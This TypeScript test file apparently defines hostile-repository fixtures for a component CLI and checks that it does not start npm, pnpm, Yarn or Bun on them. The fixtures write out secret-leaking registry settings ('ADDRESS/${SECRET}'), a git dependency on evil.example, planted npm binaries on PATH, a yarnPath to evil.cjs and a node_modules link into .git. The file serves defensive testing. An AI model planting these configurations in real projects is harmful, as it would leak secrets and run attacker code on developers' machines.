import type { Attack } from './attack.js'
import { evil, manifest } from './project-parts.js'

const add = ['add', 'card']
const notStarted = /The package manager was not started\. Next: run (?:npm|pnpm|yarn|bun) /

/** Repositories whose package manager runs programs, sends variables or writes through links. None of them is started. */
export const installProjects: readonly Attack[] = [
  {
    name: 'tracked packages in node_modules',
    files: manifest({ devDependencies: { x: 'git+ssh://git@evil.example/x.git' } }),
    registry: {},
    run: add,
    code: 0,
    message: notStarted,
  },
  {
    name: 'npm settings that send a variable',
    files: { '.npmrc': 'registry=ADDRESS/${SECRET}\n' },
    registry: {},
    run: add,
    code: 0,
    message: notStarted,
  },
  {
    name: 'npm in the project folder on PATH',
    files: { 'node_modules/.bin/npm': evil, 'bin/npm': evil },
    registry: {},
    run: add,
    code: 0,
    message: notStarted,
  },
  {
    name: 'npm in the project folder on PATH, with --install',
    files: { 'node_modules/.bin/npm': evil, 'bin/npm': evil },
    registry: {},
    run: [...add, '--install'],
    starts: { 'ran.npm': 'i --ignore-scripts --no-global --location=project\n' },
    code: 0,
    message: /Some package managers still run scripts of git dependencies/,
  },
  {
    name: 'packages behind a link into the .git folder',
    links: { node_modules: '.git' },
    git: true,
    files: manifest({ devDependencies: { hooks: 'npm:@evil/hooks@1.0.0' } }),
    registry: {},
    run: add,
    code: 0,
    message: notStarted,
  },
  {
    name: 'a pnpm hook',
    files: { '.pnpmfile.cjs': 'x', 'pnpm-lock.yaml': '' },
    registry: {},
    run: add,
    code: 0,
    message: notStarted,
  },
  {
    name: 'Yarn settings that name a program',
    files: { '.yarnrc.yml': 'yarnPath: ./evil.cjs\n', 'yarn.lock': '__metadata:\n' },
    registry: {},
    run: add,
    code: 0,
    message: notStarted,
  },
  {
    name: 'Bun environment variables',
    files: { '.env': 'BUN_CONFIG_REGISTRY=ADDRESS/$SECRET/\n', 'bun.lock': '{}' },
    registry: {},
    run: add,
    code: 0,
    message: notStarted,
  },
  {
    name: 'an old package manager, detected by its version',
    files: manifest({ packageManager: 'yarn@1.19.2' }),
    registry: {},
    run: add,
    code: 0,
    message: notStarted,
  },
  {
    name: 'packages that an update needs',
    files: manifest({ dependencies: { react: '^19.0.0', tailwindcss: '^4.0.0' } }),
    before: 'card is added',
    registry: {},
    run: ['update', '--allow-dirty'],
    code: 0,
    message: notStarted,
  },
  {
    name: 'packages of a removed item',
    before: 'card is added',
    registry: {},
    run: ['remove', 'card', '--prune'],
    code: 0,
    message: notStarted,
  },
  {
    name: 'a sandbox that is not installed',
    files: { 'keyhook.config.mjs': '' },
    run: ['dev'],
    code: 3,
    message: /Run npm i -D @keyhook\/provider @keyhook\/sandbox/,
  },
]
